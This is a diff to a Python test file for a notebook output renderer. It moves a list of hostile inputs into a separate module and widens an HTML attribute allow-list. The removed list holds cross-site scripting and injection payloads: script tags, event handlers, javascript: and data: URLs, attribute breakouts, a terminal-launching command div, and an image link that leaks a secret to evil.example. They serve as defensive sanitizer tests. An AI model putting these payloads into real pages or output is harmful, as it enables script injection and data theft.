@@ -11,45 +11,19 @@ from hypothesis import strategies as st
 from ainb.magics.display import Look, facts, live_bundle, money, reply_bundle
 from ainb.messages import Reply, Usage
 from ainb.panels.markup import Report, Table
+from tests.hostile import HOSTILE
 
 PLAIN = Look(rich=False)
 RICH = Look()
 STEADY = Look(steady=True)
 
-# What a model, a provider or a file can put into a cell's output.
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "![pixel](https://evil.example/p.png?q=secret)",
-    "![x](javascript:alert(1))",
-    "[click](javascript:alert(1))",
-    "[click](  JaVaScRiPt:alert(1))",
-    "[click](data:text/html;base64,PHNjcmlwdD4=)",
-    "[click](vbscript:msgbox(1))",
-    "<javascript:alert(1)>",
-    "[ref]\n\n[ref]: javascript:alert(1)",
-    '[a](https://x "onmouseover=alert(1)")',
-    '[a](https://x"onmouseover="alert(1))',
-    "```html\n<script>alert(1)</script>\n```",
-    '```"><script>alert(1)</script>\nx\n```',
-    "`<script>alert(1)</script>`",
-    "| a |\n|---|\n| <script>alert(1)</script> |",
-    "<style>*{display:none}</style>",
-    '<div data-commandlinker-command="terminal:create-new">x</div>',
-    "<iframe src=javascript:alert(1)></iframe>",
-    "</style></div><script>alert(1)</script>",
-    "<!--<script>alert(1)</script>-->",
-    "<svg onload=alert(1)>",
-    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    '"><script>alert(1)</script>',
-    "\ud800<script>",
-]
 MAY_STAND = {
     "style", "div", "p", "a", "code", "pre", "em", "strong", "table", "thead", "tbody", "tr", "th", "td", "ul", "ol", "li",
     "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "hr", "br", "span", "iframe", "caption",
 }  # fmt: skip
-MAY_BE_SAID = {"class", "href", "rel", "title", "start", "style", "sandbox", "srcdoc", "scope"}
+MAY_BE_SAID = {
+    "class", "href", "rel", "title", "start", "style", "sandbox", "srcdoc", "scope", "role", "tabindex", "aria-label",
+}  # fmt: skip
 
 
 class Inspector(HTMLParser):
